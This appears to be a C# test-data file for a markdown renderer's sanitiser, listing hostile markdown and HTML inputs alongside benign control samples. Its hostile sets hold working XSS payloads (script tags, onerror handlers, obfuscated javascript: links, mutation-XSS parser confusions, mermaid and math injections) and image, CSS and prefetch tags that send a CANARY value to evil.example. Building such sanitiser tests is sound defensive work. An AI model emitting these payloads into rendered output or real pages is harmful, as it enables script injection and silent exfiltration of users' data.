// SPDX-License-Identifier: Apache-2.0

namespace Sigil.Components.Tests.Markdown;

/// <summary>Markdown as an attacker would have a model write it.</summary>
public static class HostileTexts
{
    public static TheoryData<string> Scripts =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java\nscript:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](\u0001javascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://e.example/i.png)",
        "[x](https://e.example/\"onmouseover=\"alert(1))",
        "[x](https://e.example 'a\" onclick=\"alert(1)')",
        "```<img src=x onerror=alert(1)>\ncode\n```",
        "```html\"><script>alert(1)</script>\n```",
        "<iframe src=https://e.example></iframe>",
        "<body onload=alert(1)>",
        "<form action=https://e.example><input name=password></form>",
        "<style>*{background:url(https://e.example)}</style>",
        "<base href=https://e.example/>",
        "<meta http-equiv=refresh content='0;url=https://e.example'>",
        "<link rel=stylesheet href=https://e.example/a.css>",
        "<object data=https://e.example></object><embed src=https://e.example>",
        "- [ ] <input onfocus=alert(1) autofocus>",
        "| a |\n|---|\n| <script>alert(1)</script> |",
    ];

    public static TheoryData<string> Confusions =>
    [
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<a id=cookie></a><img name=body><form id=getElementById>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
        "<select><iframe src=javascript:alert(1)></select>",
        "<plaintext><img src=x onerror=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "`<img src=x onerror=alert(1)>`",
    ];

    public static TheoryData<string> Drawings =>
    [
        "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"] --> B; click A \"javascript:alert(1)\"\n```",
        "$\\href{javascript:alert(1)}{x}$",
        "$$\\includegraphics{https://e.example/x.png}$$",
        "```math\n\\htmlData{onclick=alert(1)}{x}\n```",
        "{.class onclick=alert(1)}",
        "# Title {#id onclick=alert(1)}",
    ];

    public static TheoryData<string> Remote =>
    [
        "![](https://evil.example/?d=CANARY)",
        "![alt][ref]\n\n[ref]: https://evil.example/?d=CANARY",
        "<img src=\"https://evil.example/?d=CANARY\">",
        "<div style=\"background:url(https://evil.example/?d=CANARY)\">x</div>",
        "<link rel=prefetch href=https://evil.example/?d=CANARY>",
        "<svg><image href=https://evil.example/?d=CANARY /></svg>",
        "![a](//evil.example/?d=CANARY)",
        "![a](/local?d=CANARY)",
        "<video poster=https://evil.example/?d=CANARY></video>",
    ];

    public static TheoryData<string> Ordinary =>
    [
        "# Title\n\nText with **bold**, *italic*, ~~gone~~ and `code`.\n\n- one\n- two\n\n  more of two\n- three\n\nEnd.",
        "Here are:\n- a\n- b\n\n1. x\n2. y\n   - z",
        "#hashtag is no title\n\nSetext\n===\n\nagain\n---\n\n***\n\nend",
        "```csharp\nvar x = 1;\n\nvar y = 2;\n```\n\nafter\n\n    indented\n\n    more\n\nlast",
        "| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\n\n> quote\n> more\n\n- [ ] open\n- [x] done",
        "Line one\r\nLine two\r\n\r\nPara two\r\n\r\n~~~\r\ncode\r\n~~~\r\n",
        "\n\n\nleading blanks\n\n\n\nand more\n\n",
        "see https://example.org/a?b=c and [named](https://example.org \"title\") <mailto:a@b.example>",
        "[ref]: https://example.org\n\nText with [ref].\n\n[late]\n\n[late]: https://example.org/late",
        "日本語のテキスト\n\n- 項目\n\n```\nコード\n```\n\n😀 emoji\n\nעברית",
        "1. a\n\n   para\n\n   ```\n   code\n   ```\n2. b\n\ntext\n",
        "> a\n\n> b\n\ntext\n  continued\n\n* * *\n* item",
    ];
}
